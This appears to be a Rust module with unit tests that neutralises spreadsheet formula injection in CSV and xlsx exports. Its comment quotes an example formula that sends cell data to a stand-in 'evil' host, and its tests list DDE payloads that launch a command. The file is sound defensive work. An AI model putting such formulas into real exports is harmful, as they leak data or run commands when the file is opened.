//! Cells that are safe to open in a spreadsheet. Excel, LibreOffice and WPS run a cell that
//! starts with `=`, `+`, `-` or `@` as a formula (and a leading tab or carriage return can hide
//! one), so a customer named `=HYPERLINK("http://evil/?"&A1)` in an export would run when a
//! colleague opens the file (CSV injection, OWASP). Every export cell passes through
//! [`formula_safe`], which prefixes such a cell with `'` — the spreadsheet's own "this is text"
//! mark — unless the cell is a plain number or a phone number in display form
//! (`+852 2123 4567`, `-12.50`), which carry no formula and must read as typed.

use std::borrow::Cow;

/// The cell as it may be written to a CSV or xlsx file.
pub fn formula_safe(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        Some('+' | '-') if !is_number_like(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A signed number or a phone number as people write them: digits with spaces, dots,
/// dashes, parentheses and one leading sign — nothing a spreadsheet could call.
fn is_number_like(cell: &str) -> bool {
    let rest = &cell[1..];
    rest.chars().any(|c| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | '-' | '(' | ')'))
}

#[cfg(test)]
mod tests {
    use super::formula_safe;

    #[test]
    fn formulas_become_text() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://x\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "+",
            "-",
        ] {
            assert_eq!(formula_safe(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn plain_values_phones_and_numbers_are_kept() {
        for cell in [
            "张伟",
            "",
            "+852 2123 4567",
            "+86 138 0013 8000",
            "-12.50",
            "138 0013 8000",
            "021-6099-1761",
            "a=b",
            "O'Brien",
        ] {
            assert_eq!(formula_safe(cell), cell, "{cell:?}");
        }
    }
}
